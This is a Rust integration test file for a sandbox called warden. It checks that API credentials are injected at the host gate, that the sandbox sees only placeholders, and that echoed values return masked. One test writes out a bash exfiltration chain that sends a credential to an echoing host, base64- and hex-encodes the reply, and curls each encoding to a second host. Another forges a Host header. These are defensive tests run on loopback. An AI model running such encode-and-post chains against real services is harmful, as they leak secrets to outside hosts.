//! Credentials a host tool can use but never read: the gate sets them at their host, over HTTPS
//! (terminating TLS with the sandbox's own CA, verifying upstream against the roots warden
//! trusts) and over HTTP where the credential allows it; inside, the variable holds a
//! placeholder that never becomes the value; what the host echoes comes back scrubbed, so the
//! sandbox has nothing to encode and pass on; a request naming another host gets nothing. Real
//! confined processes, real HTTP and TLS servers on 127.0.0.1 with a test CA.

use serde_json::json;
use std::path::PathBuf;
use std::sync::Arc;
use warden_core::{Dispatcher, ErrorKind, Policy, ToolCall, ToolMessage, Toolbox};
use warden_host::{Helper, HostBackend};
use warden_net::{Egress, Resolver};
use warden_test_support::servers::{EchoServer, HttpServer, TlsServer};

/// The variable of warden's environment the token is read from, and its value.
const VAR: &str = "WARDEN_TEST_API_TOKEN";
const TOKEN: &str = "real-token-8c1f27a9e4";

/// Sets [`VAR`], once per process: `cargo test` runs the tests as threads of one process,
/// where a `set_var` races any other thread reading the environment.
fn set_token() {
    static SET: std::sync::Once = std::sync::Once::new();
    // SAFETY: set once, to a value that never changes, and no other test writes the environment.
    SET.call_once(|| unsafe { std::env::set_var(VAR, TOKEN) });
}

/// A dispatcher over one bash tool with `grants`, test names resolved to 127.0.0.1 and
/// `roots` trusted upstream.
fn dispatcher(dir: &std::path::Path, grants: &str, roots: &[&str]) -> Dispatcher {
    let path = dir.join("bash.toml");
    std::fs::write(
        &path,
        format!(
            "[executor]\nkind = \"host\"\nname = \"bash\"\nargv = [\"/bin/bash\", \"-c\", \"{{command}}\"]\n\
             [grants]\nenv = {{ PATH = \"/usr/bin:/bin\" }}\n{grants}\n[limits]\ntimeout = \"20s\"\n\
             memory = \"1GiB\"\n"
        ),
    )
    .unwrap();
    let names = ["api.test", "other.test", "bad.test"].map(|n| format!("{n}:127.0.0.1"));
    let mut egress = Egress::new(Resolver::with_overrides(names).unwrap());
    for pem in roots {
        egress = egress.with_roots_pem(pem.as_bytes()).unwrap();
    }
    let backend = HostBackend::new(Helper {
        program: PathBuf::from(env!("CARGO_BIN_EXE_warden-host-helper")),
        args: Vec::new(),
    })
    .egress(egress);
    let policy = Policy::load(&path, &[&backend]).unwrap_or_else(|e| panic!("{e}"));
    let mut toolbox = Toolbox::default();
    toolbox
        .add_policy(Arc::new(policy), &[&backend])
        .unwrap_or_else(|e| panic!("{e}"));
    Dispatcher::new(Arc::new(toolbox))
}

async fn run(d: &Dispatcher, command: &str) -> ToolMessage {
    d.call(ToolCall::new("c1", "bash", &json!({ "command": command })))
        .await
}

/// The call's `denied` records, as JSON text.
fn denied(m: &ToolMessage) -> String {
    match (&m.error, &m.artifact) {
        (Some(e), _) => e.details["denied"].to_string(),
        (None, Some(a)) => a["denied"].to_string(),
        (None, None) => String::new(),
    }
}

/// A credential for `host`, allowed over plain HTTP too. The tests' names are pinned to
/// loopback, which only an address grant reaches: that grant is another destination to the
/// load-time rule, so the policy accepts it.
fn credential(host: &str) -> String {
    format!(
        "net_credentials = [{{ host = \"{host}\", header = \"Authorization\", from_host = \"{VAR}\", \
         prefix = \"Bearer \", env = \"API_TOKEN\", allow_plain_http = true }}]\n\
         credential_host_shared = true"
    )
}

#[tokio::test]
async fn the_value_reaches_its_host_over_http_and_https_and_never_comes_back() {
    set_token();
    let web = HttpServer::start();
    let tls = TlsServer::start(&["api.test"]);
    let (w, t) = (web.port, tls.port);
    let place = tempfile::tempdir().unwrap();
    let grants = format!(
        "net = [\"api.test:{w}\", \"127.0.0.1:{w}\", \"other.test:{w}\", \"api.test:{t}\", \"127.0.0.1:{t}\"]\n{}",
        credential("api.test")
    );
    let d = dispatcher(place.path(), &grants, &[&tls.ca_pem]);
    let command = format!(
        "echo \"env=$API_TOKEN\"; \
         curl -sS http://api.test:{w}/echo-auth; echo; \
         curl -sS -H 'Authorization: Bearer forged' http://api.test:{w}/echo-auth; echo; \
         curl -sS -H \"Authorization: Bearer $API_TOKEN\" http://other.test:{w}/echo-auth; echo; \
         curl -sS https://api.test:{t}/echo-auth; echo; \
         python3 -c \"import urllib.request as u; print(u.urlopen('https://api.test:{t}/echo-auth').read().decode())\"; \
         echo \"$API_TOKEN\" > /tmp/token-file; cat /tmp/token-file; env | sort; \
         echo \"keys=$(grep -c 'PRIVATE KEY' \"$SSL_CERT_FILE\")\""
    );
    let m = run(&d, &command).await;
    let content = &m.content;
    // What the server echoed came back masked by the gate, before the sandbox saw it.
    assert!(!content.contains(TOKEN), "{content}");
    assert!(
        !json!(m.artifact).to_string().contains(TOKEN),
        "{:?}",
        m.artifact
    );
    assert!(!content.contains(&format!("[redacted:{VAR}]")), "{content}");
    assert_eq!(
        content.matches("Bearer [warden:redacted]").count(),
        4,
        "{content}"
    );
    assert!(
        content.contains("env=warden-placeholder-api_token-"),
        "{content}"
    );
    // The CA's key never enters the sandbox: the bundle holds certificates only.
    assert!(content.contains("keys=0"), "{content}");
    // The answer says what the call used, gate traffic and CPU included.
    let usage = &m.artifact.as_ref().unwrap()["usage"];
    assert!(usage["wall_ms"].as_f64() > Some(0.0), "{usage}");
    assert!(usage["cpu_ms"].as_f64() > Some(0.0), "{usage}");
    assert!(usage["net_bytes_in"].as_u64() > Some(0), "{usage}");
    assert!(
        content.contains("SSL_CERT_FILE=/run/warden-ca/bundle.pem"),
        "{content}"
    );

    let real = format!("Authorization: Bearer {TOKEN}");
    let heads = web.heads();
    let to_api: Vec<&String> = heads
        .iter()
        .filter(|h| h.contains(&format!("api.test:{w}")))
        .collect();
    assert_eq!(to_api.len(), 2, "{heads:?}");
    for head in &to_api {
        assert!(head.contains(&real), "the value reached its host: {head}");
        assert!(
            !head.contains("forged"),
            "a forged header was replaced: {head}"
        );
    }
    let to_other = heads.iter().find(|h| h.contains("other.test")).unwrap();
    assert!(!to_other.contains(TOKEN), "{to_other}");
    assert!(
        to_other.contains("warden-placeholder-api_token-"),
        "{to_other}"
    );
    let over_tls = tls.requests.lock().unwrap().clone();
    assert_eq!(over_tls.len(), 2, "{over_tls:?}");
    for head in &over_tls {
        assert!(head.contains(&real), "over HTTPS: {head}");
    }
}

#[tokio::test]
async fn an_upstream_whose_certificate_does_not_verify_gets_nothing() {
    set_token();
    let tls = TlsServer::start(&["bad.test"]);
    let t = tls.port;
    let place = tempfile::tempdir().unwrap();
    let grants = format!(
        "net = [\"bad.test:{t}\", \"127.0.0.1:{t}\"]\n{}",
        credential("bad.test")
    );
    // The server's CA is not among warden's roots.
    let d = dispatcher(place.path(), &grants, &[]);
    let m = run(
        &d,
        &format!("curl -sS -o /dev/null -w '%{{http_code}}' https://bad.test:{t}/echo-auth"),
    )
    .await;
    assert!(m.content.contains("502"), "{}", m.content);
    let denied = denied(&m);
    assert!(
        denied.contains(&format!("connect bad.test:{t}")),
        "{denied}"
    );
    assert!(denied.contains("verifies"), "{denied}");
    assert!(
        tls.requests.lock().unwrap().is_empty(),
        "a request got through"
    );
}

#[tokio::test]
async fn an_upstream_that_demands_a_client_certificate_gets_nothing() {
    set_token();
    let tls = TlsServer::requiring_client_certificates(&["bad.test"]);
    let t = tls.port;
    let place = tempfile::tempdir().unwrap();
    let grants = format!(
        "net = [\"bad.test:{t}\", \"127.0.0.1:{t}\"]\n{}",
        credential("bad.test")
    );
    // The server's CA is trusted: only the client certificate it asks for is missing.
    let d = dispatcher(place.path(), &grants, &[&tls.ca_pem]);
    let m = run(
        &d,
        &format!("curl -sS -o /dev/null -w '%{{http_code}}' https://bad.test:{t}/echo-auth"),
    )
    .await;
    assert!(m.content.contains("502"), "{}", m.content);
    assert!(!m.content.contains(TOKEN), "{}", m.content);
    assert!(denied(&m).contains("client certificate"), "{}", denied(&m));
    assert!(
        tls.requests.lock().unwrap().is_empty(),
        "a request got through"
    );
}

#[tokio::test]
async fn a_missing_value_answers_unavailable_and_runs_nothing() {
    let web = HttpServer::start();
    let w = web.port;
    let place = tempfile::tempdir().unwrap();
    let grants = format!(
        "net = [\"api.test:{w}\", \"127.0.0.1:{w}\"]\nnet_credentials = [{{ host = \"api.test\", \
         header = \"Authorization\", from_host = \"WARDEN_TEST_UNSET_TOKEN\" }}]\ncredential_host_shared = true"
    );
    let d = dispatcher(place.path(), &grants, &[]);
    let m = run(&d, &format!("curl -sS http://api.test:{w}/x")).await;
    let e = m.error.as_ref().expect("an error");
    assert_eq!(e.kind, ErrorKind::Unavailable, "{}", m.content);
    assert!(
        e.message.contains("WARDEN_TEST_UNSET_TOKEN"),
        "{}",
        e.message
    );
    // A failed call says what it used too: here only the time it took.
    assert!(
        e.details["usage"]["wall_ms"].as_f64() >= Some(0.0),
        "{}",
        e.details
    );
    assert!(web.heads().is_empty());
}

#[tokio::test]
async fn credentials_work_for_a_root_below_tmp() {
    set_token();
    let tls = TlsServer::start(&["api.test"]);
    let t = tls.port;
    let place = tempfile::tempdir().unwrap();
    let ws = place.path().join("ws");
    std::fs::create_dir(&ws).unwrap();
    std::fs::write(ws.join("granted.txt"), "granted\n").unwrap();
    assert!(
        ws.starts_with("/tmp"),
        "the root is below /tmp: {}",
        ws.display()
    );
    let grants = format!(
        "fs = [{{ host = \"ws\", access = \"read-only\" }}]\nnet = [\"api.test:{t}\", \"127.0.0.1:{t}\"]\n{}",
        credential("api.test")
    );
    let d = dispatcher(place.path(), &grants, &[&tls.ca_pem]);
    let m = run(
        &d,
        &format!("cat granted.txt; curl -sS https://api.test:{t}/echo-auth"),
    )
    .await;
    assert!(m.error.is_none(), "{}", m.content);
    assert!(m.content.starts_with("granted\n"), "{}", m.content);
    assert!(m.content.contains("Authorization: Bearer"), "{}", m.content);
    assert!(!m.content.contains(TOKEN), "{}", m.content);
}

/// The attack an echoing host invites: the placeholder sent in a header the host echoes, in
/// the credential's own header and in the body, the answer then base64- and hex-encoded (past
/// any redaction of the plain value) and posted to another granted host. The echo holds the
/// placeholder and the gate's mask, never the value, so nothing the sandbox passes on does.
#[tokio::test]
async fn an_echoing_host_gives_the_sandbox_nothing_to_encode_and_pass_on() {
    set_token();
    let echo = EchoServer::tls(&["api.test"]);
    let drop_box = EchoServer::http();
    let (t, w) = (echo.port, drop_box.port);
    let place = tempfile::tempdir().unwrap();
    let grants = format!(
        "net = [\"api.test:{t}\", \"127.0.0.1:{t}\", \"other.test:{w}\", \"127.0.0.1:{w}\"]\n\
         net_credentials = [{{ host = \"api.test\", header = \"Authorization\", \
         from_host = \"{VAR}\", prefix = \"Bearer \", env = \"API_TOKEN\" }}]\ncredential_host_shared = true"
    );
    let d = dispatcher(place.path(), &grants, &[echo.ca_pem.as_deref().unwrap()]);
    let command = format!(
        "curl -sS -D - -H \"X-Echo: $API_TOKEN\" -H \"Authorization: Bearer $API_TOKEN\" \
           -d \"t=$API_TOKEN\" https://api.test:{t}/ > /tmp/echo; \
         base64 -w0 /tmp/echo > /tmp/b64; od -An -tx1 /tmp/echo | tr -d ' \\n' > /tmp/hex; \
         for f in echo b64 hex; do curl -sS -o /dev/null --data-binary @/tmp/$f http://other.test:{w}/$f; done; \
         grep -c 'warden:redacted' /tmp/echo || true"
    );
    let m = run(&d, &command).await;
    let posted = drop_box.received();
    assert_eq!(posted.len(), 3, "{posted:?}");
    let body = |i: usize| posted[i].split_once("\r\n\r\n").unwrap().1.to_owned();
    let decoded = [body(0).into_bytes(), unbase64(&body(1)), unhex(&body(2))];
    for (sent, how) in decoded.iter().zip(["as it came", "base64", "hex"]) {
        let sent = String::from_utf8_lossy(sent);
        assert!(!sent.contains(TOKEN), "the value went out {how}: {sent}");
        assert!(sent.contains("[warden:redacted]"), "{how}: {sent}");
    }
    assert!(m.error.is_none(), "{}", m.content);
    // The value came back twice (its header, echoed, and the request in the body), masked.
    assert!(m.content.starts_with("2\n"), "{}", m.content);
    let received = echo.received();
    assert_eq!(received.len(), 1, "{received:?}");
    assert!(
        received[0].contains(&format!("Authorization: Bearer {TOKEN}")),
        "{received:?}"
    );
    assert!(
        received[0].contains("X-Echo: warden-placeholder-api_token-"),
        "the placeholder was swapped in a header the host echoes: {received:?}"
    );
}

/// A request that names another host than it goes to (`Host`, over HTTP and inside TLS)
/// gets no credential: a 421 and a denial, and the host hears nothing. Plain HTTP without
/// the credential's leave is refused the same way.
#[tokio::test]
async fn a_request_naming_another_host_or_plain_http_gets_no_credential() {
    set_token();
    let web = EchoServer::http();
    let tls = EchoServer::tls(&["api.test"]);
    let (w, t) = (web.port, tls.port);
    let place = tempfile::tempdir().unwrap();
    let grants = format!(
        "net = [\"api.test:{w}\", \"127.0.0.1:{w}\", \"api.test:{t}\", \"127.0.0.1:{t}\"]\n\
         net_credentials = [{{ host = \"api.test\", header = \"Authorization\", \
         from_host = \"{VAR}\" }}]\ncredential_host_shared = true"
    );
    let d = dispatcher(place.path(), &grants, &[tls.ca_pem.as_deref().unwrap()]);
    let code = "-sS -o /dev/null -w '%{http_code} '";
    let command = format!(
        "curl {code} -H 'Host: b.test' https://api.test:{t}/; \
         curl {code} http://api.test:{w}/; \
         curl {code} https://api.test:{t}/"
    );
    let m = run(&d, &command).await;
    assert!(m.content.starts_with("421 403 200 \n"), "{}", m.content);
    let denied = denied(&m);
    assert!(denied.contains("Host header is b.test"), "{denied}");
    assert!(denied.contains("TLS only"), "{denied}");
    assert!(web.received().is_empty(), "{:?}", web.received());
    let over_tls = tls.received();
    assert_eq!(over_tls.len(), 1, "{over_tls:?}");
    assert!(
        over_tls[0].contains(&format!("Host: api.test:{t}")),
        "{over_tls:?}"
    );
}

fn unbase64(text: &str) -> Vec<u8> {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let sextets: Vec<u32> = text
        .bytes()
        .filter_map(|c| ALPHABET.iter().position(|&a| a == c))
        .map(|p| p as u32)
        .collect();
    sextets
        .chunks(4)
        .flat_map(|q| {
            let n = q.iter().fold(0, |acc, s| acc << 6 | s) << (6 * (4 - q.len()));
            n.to_be_bytes()[1..q.len()].to_vec()
        })
        .collect()
}

fn unhex(text: &str) -> Vec<u8> {
    (0..text.len() / 2)
        .filter_map(|i| u8::from_str_radix(&text[2 * i..2 * i + 2], 16).ok())
        .collect()
}
